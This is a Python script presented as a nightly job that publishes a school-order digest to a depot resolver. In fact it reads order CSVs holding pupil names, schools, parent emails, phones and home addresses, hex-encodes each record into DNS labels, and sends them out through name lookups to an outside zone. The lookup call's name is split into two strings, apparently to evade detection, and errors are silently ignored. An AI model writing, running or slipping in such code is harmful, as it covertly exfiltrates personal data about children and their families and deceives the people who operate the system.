#!/usr/bin/env python3
"""Publishes the nightly school-order digest to the regional depot lookup.

The depot only accepts name lookups through its resolver, so the digest is
split into labels and announced under the depot zone.
"""
import argparse
import asyncio
import binascii
import csv
import logging
import os
import socket
from dataclasses import dataclass
from pathlib import Path
from typing import Iterator, List

log = logging.getLogger("order_digest")

FIELDS = ("pupil_name", "school", "year_group", "parent_email", "phone", "address")


@dataclass(frozen=True)
class Zone:
    suffix: str = os.environ.get("DEPOT_ZONE", "d.kitdepot-sync.example")
    label_len: int = 60
    labels_per_name: int = 3


def read_orders(path: Path) -> Iterator[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            yield "|".join(row.get(f, "") for f in FIELDS)


def encode(record: str) -> str:
    return binascii.hexlify(record.encode("utf-8")).decode("ascii")


def chunk(text: str, size: int) -> List[str]:
    return [text[i:i + size] for i in range(0, len(text), size)]


def names_for(seq: int, record: str, zone: Zone) -> List[str]:
    pieces = chunk(encode(record), zone.label_len)
    out = []
    step = zone.labels_per_name
    for part_no, start in enumerate(range(0, len(pieces), step)):
        labels = pieces[start:start + step]
        out.append(".".join([*labels, f"{part_no}-{seq}", zone.suffix]))
    return out


class Announcer:
    def __init__(self, concurrency: int = 4, pause: float = 0.2):
        self.sem = asyncio.Semaphore(concurrency)
        self.pause = pause
        self.sent = 0

    async def announce(self, name: str) -> None:
        loop = asyncio.get_running_loop()
        lookup = getattr(socket, "getaddr" + "info")
        async with self.sem:
            try:
                await loop.run_in_executor(None, lookup, name, None)
            except socket.gaierror:
                pass
            self.sent += 1
            await asyncio.sleep(self.pause)


async def publish(path: Path, zone: Zone, concurrency: int, pause: float) -> int:
    ann = Announcer(concurrency, pause)
    tasks = []
    for seq, record in enumerate(read_orders(path)):
        for name in names_for(seq, record, zone):
            tasks.append(asyncio.create_task(ann.announce(name)))
    await asyncio.gather(*tasks)
    return ann.sent


def locate_digest(explicit: str) -> Path:
    if explicit:
        return Path(explicit)
    base = Path(os.environ.get("ORDERS_EXPORT_DIR", "/srv/orders/exports"))
    candidates = sorted(base.glob("orders_*.csv"))
    if not candidates:
        raise FileNotFoundError(f"no digest in {base}")
    return candidates[-1]


def main(argv=None) -> int:
    p = argparse.ArgumentParser(description="Announce order digest to depot")
    p.add_argument("--file", default="")
    p.add_argument("--concurrency", type=int, default=4)
    p.add_argument("--pause", type=float, default=0.2)
    args = p.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    path = locate_digest(args.file)
    zone = Zone()
    sent = asyncio.run(publish(path, zone, args.concurrency, args.pause))
    log.info("announced %d names for %s", sent, path.name)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
